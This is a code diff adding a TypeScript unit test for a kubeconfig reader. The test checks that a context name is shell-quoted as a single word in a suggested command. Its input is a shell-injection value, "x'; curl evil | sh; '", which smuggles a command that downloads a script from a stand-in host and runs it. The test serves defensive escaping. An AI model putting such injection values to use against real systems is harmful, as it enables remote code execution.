@@ -51,6 +51,15 @@ function codeOf(source: string, context?: string): string {
 }
 
 describe('readKubeconfig', () => {
+  it('puts a context into a command as one word, whatever it is called', () => {
+    const name = "x'; curl evil | sh; '"
+    const contexts = [{ name, context: { cluster: 'c', user: 'nobody' } }]
+    const result = readKubeconfig(config({ token: secret }, {}, { contexts }), name)
+    expect(result.ok ? '' : result.problem.remedy).toContain(
+      String.raw`--context='x'\''; curl evil | sh; '\'''`,
+    )
+  })
+
   it('takes the current context', () => {
     const result = readKubeconfig(
       config({ token: secret, as: 'boss' }, { 'certificate-authority-data': caData, 'tls-server-name': 'k' }),
